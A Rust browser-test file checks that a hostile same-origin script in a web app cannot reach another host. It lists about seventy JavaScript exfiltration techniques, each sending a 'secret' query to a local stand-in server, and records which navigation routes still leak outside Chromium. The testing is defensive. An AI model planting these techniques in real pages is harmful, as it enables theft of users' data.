//! Holds a hostile script of the app's own origin against every way out of a page that we know: none reaches another host in
//! Chromium, and what remains elsewhere is written down here and in THREATS.md.
//!
//! Must not name a way as shut that it has not tried.

use browser::{Engine, Outcome, Page, Server, core_scenario, scenario};
use std::fs;
use std::path::PathBuf;
use std::time::Duration;

/// Ways that do not leave the page. Each is a statement; `out(name)` is an address elsewhere.
const WITHIN: &[(&str, &str)] = &[
    ("fetch", "fetch(out('fetch')).catch(() => 0)"),
    ("fetch-no-cors", "fetch(out('fetch-no-cors'), { mode: 'no-cors' }).catch(() => 0)"),
    ("fetch-post", "fetch(out('fetch-post'), { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => 0)"),
    ("fetch-keepalive", "fetch(out('fetch-keepalive'), { keepalive: true, mode: 'no-cors' }).catch(() => 0)"),
    ("fetch-later", "fetchLater(out('fetch-later'), { activateAfter: 0 })"),
    ("xhr", "const it = new XMLHttpRequest(); it.open('GET', out('xhr')); it.send()"),
    ("beacon", "navigator.sendBeacon(out('beacon'), 'x')"),
    ("web-socket", "new WebSocket(out('web-socket').replace('http', 'ws'))"),
    ("event-source", "new EventSource(out('event-source'))"),
    ("web-transport", "new WebTransport(out('web-transport').replace('http', 'https'))"),
    ("image", "new Image().src = out('image')"),
    ("image-set", "add('img').srcset = `${out('image-set')} 1x`"),
    (
        "picture",
        "const p = add('picture'), s = add('source', p); s.srcset = out('picture'); add('img', p).src = out('picture')",
    ),
    ("input-image", "const it = add('input'); it.type = 'image'; it.src = out('input-image')"),
    ("body-background", "document.body.setAttribute('background', out('body-background'))"),
    ("style-sheet", "const it = add('link', document.head); it.rel = 'stylesheet'; it.href = out('style-sheet')"),
    ("style-import", "add('style', document.head).textContent = `@import '${out('style-import')}'`"),
    ("style-background", "add('p').style.backgroundImage = `url(${out('style-background')})`"),
    ("style-cursor", "document.body.style.cursor = `url(${out('style-cursor')}), auto`"),
    ("style-mask", "const it = add('p'); it.textContent = 'x'; it.style.maskImage = `url(${out('style-mask')})`"),
    (
        "style-rule",
        "const it = new CSSStyleSheet(); it.replaceSync(`main { background: url(${out('style-rule')}) }`); \
        document.adoptedStyleSheets = [it]",
    ),
    ("font", "new FontFace('x', `url(${out('font')})`).load().catch(() => 0)"),
    ("video", "add('video').src = out('video')"),
    ("video-poster", "add('video').poster = out('video-poster')"),
    ("audio", "const it = add('audio'); it.src = out('audio'); it.load()"),
    (
        "track",
        "const v = add('video'), t = add('track', v); t.default = true; t.src = out('track'); t.track.mode = 'showing'",
    ),
    ("frame", "add('iframe').src = out('frame')"),
    ("frame-of-words", "add('iframe').srcdoc = `<img src='${out('frame-of-words')}'>`"),
    ("frame-blank", "add('iframe').contentWindow.fetch(out('frame-blank')).catch(() => 0)"),
    ("frame-location", "add('iframe').contentWindow.location = out('frame-location')"),
    ("object", "add('object').data = out('object')"),
    ("embed", "add('embed').src = out('embed')"),
    (
        "form-in-frame",
        "const f = add('iframe'); f.name = 'there'; const it = add('form'); it.action = out('form-in-frame'); \
        it.target = 'there'; it.submit()",
    ),
    ("script", "add('script', document.head).src = out('script')"),
    ("module", "import(out('module')).catch(() => 0)"),
    ("worker", "new Worker(out('worker'))"),
    ("shared-worker", "new SharedWorker(out('shared-worker'))"),
    ("service-worker", "navigator.serviceWorker.register(out('service-worker')).catch(() => 0)"),
    ("worklet", "new AudioContext().audioWorklet.addModule(out('worklet')).catch(() => 0)"),
    ("blob-worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${out('blob-worker')}')`])))"),
    ("prefetch", "link('prefetch')"),
    ("preload", "link('preload').as = 'image'"),
    ("module-preload", "link('modulepreload')"),
    ("dns-prefetch", "link('dns-prefetch')"),
    ("preconnect", "link('preconnect')"),
    ("prerender", "link('prerender')"),
    (
        "speculation",
        "const it = add('script', document.head); it.type = 'speculationrules'; \
        it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [out('speculation')] }] })",
    ),
    ("icon", "link('icon')"),
    ("manifest", "link('manifest')"),
    ("svg-image", "const s = svg('svg', document.body), i = svg('image', s); i.setAttribute('href', out('svg-image'))"),
    (
        "svg-use",
        "const s = svg('svg', document.body), i = svg('use', s); i.setAttribute('href', `${out('svg-use')}#x`)",
    ),
    ("ping", "const it = add('a'); it.href = '#'; it.ping = out('ping'); it.click()"),
    (
        "call",
        "const it = new RTCPeerConnection({ iceServers: [{ urls: out('call').replace(/^http:\\/\\/([^/]*).*/, 'stun:$1') }] }); \
        it.createDataChannel('x'); it.createOffer().then((o) => it.setLocalDescription(o))",
    ),
    (
        "report",
        "add('meta', document.head).outerHTML = `<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; \
        report-uri ${out('report')}\">`; new Image().src = 'icons/icon.svg?'",
    ),
];

/// Ways that leave the page, if they are open.
const AWAY: &[(&str, &str)] = &[
    ("link", "const it = add('a'); it.href = out('link'); it.click()"),
    ("link-new-tab", "const it = add('a'); it.href = out('link-new-tab'); it.target = '_blank'; it.click()"),
    ("link-download", "const it = add('a'); it.href = out('link-download'); it.download = 'x'; it.click()"),
    (
        "link-dispatched",
        "const it = add('a'); it.href = out('link-dispatched'); it.dispatchEvent(new MouseEvent('click'))",
    ),
    (
        "svg-link",
        "const s = svg('svg', document.body), i = svg('a', s); i.setAttribute('href', out('svg-link')); \
        i.dispatchEvent(new MouseEvent('click', { bubbles: true }))",
    ),
    ("open", "window.open(out('open'))"),
    ("open-site", "window.betweenLetters.openSite(out('open-site'))"),
    ("open-of-frame", "add('iframe').contentWindow.open(out('open-of-frame'))"),
    ("form", "const it = add('form'); it.action = out('form'); it.submit()"),
    ("form-post", "const it = add('form'); it.method = 'post'; it.action = out('form-post'); it.submit()"),
    ("location", "location.href = out('location')"),
    ("location-replace", "location.replace(out('location-replace'))"),
    ("location-of-frame", "add('iframe').contentWindow.top.location = out('location-of-frame')"),
    (
        "refresh",
        "const it = add('meta', document.head); it.httpEquiv = 'refresh'; it.content = `0; url=${out('refresh')}`",
    ),
    ("navigation", "navigation.navigate(out('navigation'))"),
];

/// What gets through where the browser does not know Connection-Allowlist; THREATS.md says the same.
const REMAINS: &[&str] = &[
    "link-dispatched",
    "location",
    "location-of-frame",
    "location-replace",
    "navigation",
    "open-of-frame",
    "refresh",
    "svg-link",
];

/// Another host, which notes whatever reaches it.
fn elsewhere(name: &str) -> Outcome<Server> {
    let root: PathBuf = std::env::temp_dir().join(format!("between-letters-elsewhere-{name}-{}", std::process::id()));
    fs::create_dir_all(&root).map_err(|error| format!("cannot make a folder: {error}"))?;
    fs::write(root.join("index.html"), "<title>Elsewhere</title>").map_err(|error| format!("cannot write: {error}"))?;
    Server::of(&root).start()
}

fn attempt(outside: &Server, way: &str) -> String {
    format!(
        "const out = (name) => '{}' + name + '?secret=1';
        const add = (tag, where = document.body) => where.appendChild(document.createElement(tag));
        const svg = (tag, where) => where.appendChild(document.createElementNS('http://www.w3.org/2000/svg', tag));
        const link = (rel) => {{ const it = add('link', document.head); it.rel = rel; it.href = out(rel); return it; }};
        try {{ {way}; return 'tried'; }} catch (error) {{ return String(error); }}",
        outside.address()
    )
}

/// Opens the app in a document that its service worker answered.
async fn answered(page: &Page) -> Outcome {
    page.open().await?;
    page.wait_for("button", "Start with my writers").await?;
    page.wait_offline_ready().await?;
    page.reload().await?;
    page.wait_for("button", "Start with my writers").await
}

fn reached(outside: &Server) -> Vec<String> {
    let name = |target: String| target.trim_start_matches('/').split('?').next().unwrap_or_default().to_owned();
    let mut names: Vec<String> = outside.requests().into_iter().map(name).collect();
    names.retain(|name| name != "favicon.ico");
    names.sort();
    names.dedup();
    names
}

core_scenario!(nothing_within_the_page_reaches_another_host, |page| {
    assert!(WITHIN.len() + AWAY.len() >= 60);
    let outside = elsewhere(&format!("within-{}", page.engine()))?;
    answered(&page).await?;
    for (name, way) in WITHIN {
        page.script(&attempt(&outside, way)).await.map_err(|error| format!("{name}: {error}"))?;
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(reached(&outside), Vec::<String>::new());
});

core_scenario!(leaving_for_another_host, |page| {
    let outside = elsewhere(&format!("away-{}", page.engine()))?;
    answered(&page).await?;
    for (_, way) in AWAY {
        // The page may go before it answers.
        let _ = page.script(&attempt(&outside, way)).await;
        tokio::time::sleep(Duration::from_millis(600)).await;
        page.open().await?;
        page.wait_for("button", "Start with my writers").await?;
    }
    let reached = reached(&outside);
    if page.engine() == Engine::Chromium {
        assert_eq!(reached, Vec::<String>::new());
    } else {
        let more: Vec<_> = reached.iter().filter(|name| !REMAINS.contains(&name.as_str())).collect();
        assert!(more.is_empty(), "more ways out than THREATS.md says: {more:?}");
    }
});

/// The address of the library's first site, as the door, the page and the policy have it.
const SITE: &str = "https://www.aa.org/";

core_scenario!(a_listed_site_opens_by_its_exact_address_alone, |page| {
    answered(&page).await?;
    let ask = |address: &str| format!("return window.betweenLetters.openSite('{address}')");
    assert_eq!(
        page.script("return document.querySelector('script[data-sites]').dataset.sites.split(' ').length > 9").await?,
        true
    );
    for wrong in
        ["https://www.aa.org", "https://www.aa.org/?secret=1", "https://www.aa.org/#secret", "https://example.org/", ""]
    {
        assert_eq!(page.script(&ask(wrong)).await?, false, "{wrong}");
    }
    if page.engine() == Engine::Chromium {
        // By its policy the browser itself knows the same addresses, and no more.
        let script = "const answer = await fetch('./'); return answer.headers.get('Connection-Allowlist')";
        let header = page.script(&format!("return (async () => {{ {script} }})()")).await?;
        let header = header.as_str().unwrap_or_default().to_owned();
        assert!(header.contains(&format!("\"{SITE}?\"")), "{header}");
        let pattern = format!(
            "const it = new URLPattern('{SITE}?'); return [it.test('{SITE}'), it.test('{SITE}?secret=1'), it.test('{SITE}secret')]"
        );
        assert_eq!(page.script(&pattern).await?, serde_json::json!([true, false, false]));
    }
});

scenario!(no_query_reaches_the_own_host, |page| {
    answered(&page).await?;
    page.server().clear_requests();
    for way in [
        "fetch('./?secret=1')",
        "new Image().src = 'icons/icon.svg?secret=1'",
        "fetch('writers?secret=1')",
        "location.search = 'secret=1'",
    ] {
        let _ = page.script(way).await;
        tokio::time::sleep(Duration::from_millis(400)).await;
    }
    page.wait_for("button", "Start with my writers").await?;
    let told: Vec<String> = page.server().requests().into_iter().filter(|request| request.contains("secret")).collect();
    assert_eq!(told, Vec::<String>::new());
});

core_scenario!(the_other_host_can_be_reached_by_a_page_without_a_policy, |page| {
    let outside = elsewhere(&format!("open-{}", page.engine()))?;
    page.open().await?;
    page.leave_for(&outside.address()).await?;
    outside.clear_requests();
    let own = attempt(&outside, "fetch(out('fetch')); new Image().src = out('image')");
    page.script(&own).await?;
    page.until("both requests", || async { Ok(reached(&outside) == ["fetch", "image"]) }).await?;
});
